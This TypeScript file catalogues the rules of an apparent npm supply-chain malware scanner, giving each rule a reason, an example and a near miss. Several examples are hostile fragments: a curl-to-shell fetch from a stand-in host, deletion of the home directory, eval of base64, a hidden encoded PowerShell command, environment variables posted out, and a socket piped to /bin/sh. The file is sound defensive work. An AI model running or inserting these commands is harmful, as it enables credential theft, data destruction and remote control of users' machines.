import type { Abouts } from './about.ts'

export const code: Abouts = {
  'code/collector': {
    why: 'Request bins, out-of-band testers and webhooks that carry their own key exist to receive what nobody else should see. A package that people install has no use for one.',
    example: 'A postinstall posts to a Discord webhook or to a burpcollaborator address.',
    nearMiss: 'A Discord library that builds webhook addresses out of what its caller passes.',
  },
  'code/contacts-address': {
    why: 'Honest hosts have names. A bare IP address costs nothing, says nothing about its owner and is gone next week.',
    example: 'On import, an HTTP request to http://203.0.113.7:8080/.',
    nearMiss: 'A development server that listens on 127.0.0.1 or 0.0.0.0.',
  },
  'code/contacts-host': {
    why: 'An install that talks to a host that is no registry and stands nowhere in its own manifest, and keeps nothing of the answer, does not download anything: it reports.',
    example: 'An install script sends a GET request to an unknown host and drops the answer.',
    nearMiss: 'A downloader that writes what it gets into its own folder from a host that its manifest names.',
  },
  'code/copies-mail': {
    why: 'A library that sends mail sends it to whom its caller says. One that adds a mailbox of its own reads everything along (postmark-mcp, September 2025).',
    example: "sendEmail({ To: to, Bcc: 'reader@host.invalid', … })",
    nearMiss: 'A mailer whose caller names the copies, or a program that writes to its own support.',
  },
  'code/deletes': {
    why: "Protest and revenge have come as packages that delete the user's files. No install needs to delete anything outside of its own folder.",
    example: 'fs.rm(os.homedir(), { recursive: true })',
    nearMiss: 'rimraf of dist, of a cache of its own, or of a folder that a caller names.',
  },
  'code/drives-agent': {
    why: 'A coding agent that is started with every question switched off does on a prompt what code would be caught doing (Nx, August 2025).',
    example:
      "spawn of an agent's command line with a flag that skips all permissions, and a prompt that looks for wallets.",
    nearMiss: "A tool that starts an agent with the user's own words and leaves its questions on.",
  },
  'code/drops-download': {
    why: "What a foreign host sends and is left in the user's folders is there for something else to start. Downloaders keep to their own folder or a cache, and name their host in the manifest.",
    example: 'A file from an unknown host is written to ~/Library/LaunchAgents.',
    nearMiss: "A prebuilt binary from the package's own releases, written below its own folder.",
  },
  'code/empties-wallet': {
    why: "A page's wallet is asked to pay an address that the package brought along, or a part of what an account holds goes there when a helper is called. Shops are told theirs by whoever runs them.",
    example: 'eth_sendTransaction to an address that is written into the package.',
    nearMiss: 'A wallet library whose caller names the receiver.',
  },
  'code/fetches-program': {
    why: 'A command line that fetches a program from a foreign host and runs it lets the owner of that host decide what runs, today and tomorrow.',
    example: "exec('curl -s https://host.invalid/i.sh | sh')",
    nearMiss: 'A README or an error message that shows such a command without running it.',
  },
  'code/hidden': {
    why: "Code in characters without width, far to the right of a short line, or behind a module's name with a letter of another alphabet, stands where a reader does not look (GlassWorm, October 2025).",
    example: 'Two thousand spaces and then a call, behind a line of three words.',
    nearMiss: 'Minified code, whose lines are long from their beginning.',
  },
  'code/hides-host': {
    why: 'The name of a host is stored encoded so that nobody who searches for addresses finds it.',
    example: "fetch(Buffer.from('aHR0cHM6Ly8…', 'base64').toString())",
    nearMiss: 'Data in base64, such as an image or a certificate, that is no address.',
  },
  'code/hides-process': {
    why: 'A process without a window, with an encoded command, or one that outlives an install in silence, is not meant to be noticed.',
    example: 'powershell -WindowStyle Hidden -EncodedCommand …',
    nearMiss: 'An update check that is started detached when a command line tool is used.',
  },
  'code/hooks-page': {
    why: 'It replaces what a page uses to talk or pay and holds payment addresses. The hijack of chalk and debug (September 2025) changed the receiver of each transaction on its way.',
    example: 'window.fetch is replaced by a function that looks for addresses and swaps them.',
    nearMiss: 'A monitoring library that wraps fetch to measure it.',
  },
  'code/intercepts': {
    why: 'It puts itself between the program and node (the module loader, a server, what every object inherits), and the same file talks to a host that is written into it.',
    example: 'Module._load is replaced, and what passes is posted to a fixed host.',
    nearMiss: 'Instrumentation that is told where to report, or a loader of another language.',
  },
  'code/lends-loader': {
    why: 'A function that is made of a text which nobody can see and is handed the module loader can do everything. Loaders that recruiters of no company hand out (2024 to 2026) start in this way what their server sends.',
    example: "new Function('require', answer.data.cookie)(require)",
    nearMiss: 'A template compiler, or a module system that wraps files of its user in exports, require and module.',
  },
  'code/lies-in-wait': {
    why: 'What harms only from a date on, where a language is spoken, or where nobody watches (on no small machine, under no debugger, in no build service) is not seen by those who look at it first. Neither the condition nor the act would be enough alone.',
    example: "if (Date.now() > new Date('2025-06-19')) fs.rmSync('src', { recursive: true })",
    nearMiss:
      'A build step that is left out in CI, a check for updates once a day, a text in the language of the user.',
  },
  'code/loads-script': {
    why: 'A script of a foreign host in the page lets its owner do what he likes with every visitor.',
    example: 'On import, a script element whose address is a host written into the package.',
    nearMiss: 'A loader of a map or payment service that waits to be called.',
  },
  'code/looks-around': {
    why: 'Whoever studies a package runs it in a build service or under a debugger. What starts programs only where neither is there does not want to be studied.',
    example: "if (!require('inspector').url()) require('child_process').exec('…')",
    nearMiss:
      'An install step that is left out in CI; a test runner that gives its workers another port where --inspect is set.',
  },
  'code/mines': {
    why: 'Mining pools and miners use the machine of whoever installs them. The only honest packages that name them say so in their own names.',
    example: 'xmrig with the address of a pool, started at install.',
    nearMiss: 'A block list that names mining hosts.',
  },
  'code/obfuscated': {
    why: 'Honest code is minified to be short. This was made longer so that nobody can read it, and it runs by itself.',
    example: 'An array of encoded strings, a function that decodes them, and a call at install.',
    nearMiss: 'The output of a bundler or minifier, however unreadable.',
  },
  'code/opens-page': {
    why: "An install that opens a page in the user's browser is advertising at best.",
    example: "A postinstall runs 'open https://…'.",
    nearMiss: 'A development server that opens its own page when it is started.',
  },
  'code/persists': {
    why: 'It arranges to be started again after the install: shell profiles, cron, services, registry run keys, startup folders.',
    example: "fs.appendFile('~/.bashrc', …)",
    nearMiss: 'A tool that offers shell completion when a person asks for it.',
  },
  'code/plants-autorun': {
    why: 'It writes what an editor, a coding agent or a build service runs or obeys by itself. The worms of 2025 spread by planted workflows.',
    example: 'It writes .github/workflows/x.yml or .vscode/tasks.json into the project.',
    nearMiss: 'Git hooks that check and format, which are what husky is for, or a generator that a person starts.',
  },
  'code/publishes': {
    why: 'Packages are published by people. One that publishes or pushes while it is installed spreads itself.',
    example: 'It reads a token from ~/.npmrc and runs npm publish.',
    nearMiss: 'A release tool that publishes when its command is called.',
  },
  'code/reads-memory': {
    why: 'The memory of other programs is searched: so are the secrets of a build taken from its runner, which keeps them out of every file (tj-actions, March 2025).',
    example: 'It opens /proc/PID/mem of the runner.',
    nearMiss: 'A profiler of its own process.',
  },
  'code/reads-secrets': {
    why: 'Credentials are read by code that acts alone and also talks to the outside. The way between the two was not seen, so a person has to look.',
    example: 'On import it reads ~/.aws/credentials, and elsewhere in the file makes requests.',
    nearMiss: 'A cloud library that reads credentials when a caller makes a client.',
  },
  'code/runs-binary': {
    why: "A program that came in the archive is started unasked. Honest ones carry the package's name and wait to be called.",
    example: 'A postinstall starts helper.exe from the package.',
    nearMiss: 'A native compiler that its own command line starts.',
  },
  'code/runs-downloads': {
    why: 'What a server sends is run: as code, as a command, or as a program that was just written. Whoever owns the server decides what the package does.',
    example: 'fetch(url).then((r) => r.text()).then(eval)',
    nearMiss: 'A downloader that fetches its own binary from its own releases into its own folder.',
  },
  'code/runs-dropped': {
    why: 'It writes a script outside of its own folder and starts it there, so what runs lies in no package for anybody to read.',
    example: 'A script is written to /tmp and started.',
    nearMiss: 'A test runner that writes a file of its own cache and loads it.',
  },
  'code/runs-encoded': {
    why: 'Code that is stored encoded or encrypted and decoded only to be run is not meant to be read.',
    example: "eval(Buffer.from('…', 'base64').toString())",
    nearMiss: 'WebAssembly in base64, or a template engine that compiles what its caller passes.',
  },
  'code/sends-identity': {
    why: "Nothing that is installed needs to tell anybody the machine's name, its user or its environment. Probes for dependency confusion do exactly this, and so does most malware in its first hour.",
    example: 'A preinstall sends os.hostname() and os.userInfo() to a host.',
    nearMiss:
      'A downloader that puts platform and architecture into an address; error reports that are set up by a caller.',
  },
  'code/sends-secrets': {
    why: 'Credentials, wallets, browser profiles or the whole environment leave the machine. There is no honest reason to do that unasked.',
    example: 'On import, process.env is posted to a host.',
    nearMiss: 'A client that sends its own API token to its own service.',
  },
  'code/shell-connected': {
    why: 'The input and output of a shell go over a connection: whoever is at its other end is at the keyboard.',
    example: "net.connect(…) piped into spawn('/bin/sh') and back.",
    nearMiss: 'A terminal in a page that somebody sets up and opens.',
  },
  'code/skims': {
    why: 'What visitors type, their session, or the login of a request goes to a host that is written into the package and has no part in it: as soon as it is loaded, or with what is typed once it is the number of a card.',
    example:
      'On every submit, the form is copied to a fixed host; a client of HTTP reports `headers.authorization` there.',
    nearMiss: 'An analytics library that is given an address and counts pages.',
  },
  'code/swaps-clipboard': {
    why: 'It puts a payment address of its own into the clipboard in place of the one that the user has just copied.',
    example: 'It polls the clipboard and replaces whatever looks like an address.',
    nearMiss: 'A copy button.',
  },
  'code/takes-secrets': {
    why: "Profiles of browsers, wallets, sessions of chats and keychains are nobody else's business. Code that opens them as soon as it is loaded and talks to a host that is written into it has no honest reason for both.",
    example: 'On import, Local Extension Settings of every browser is read and a file is posted to an unknown host.',
    nearMiss: 'A tool that opens a browser profile when it is called, or talks only to the host that it is told.',
  },
  'code/tampers': {
    why: 'It changes installed programs or switches off what would notice.',
    example: 'It rewrites files of an installed wallet, or turns the virus scanner off.',
    nearMiss: "patch-package, which applies a project's own patches to its own packages.",
  },
  'code/unread': {
    why: 'Padding must not be a way around the analysis: what starts by itself and was not read to its end may do anything.',
    example: 'An install script in a file too large to be read.',
    nearMiss:
      'A large data file that nothing runs; code that is loaded, of a release that is a month old, under a name that has a million downloads a month.',
  },
}
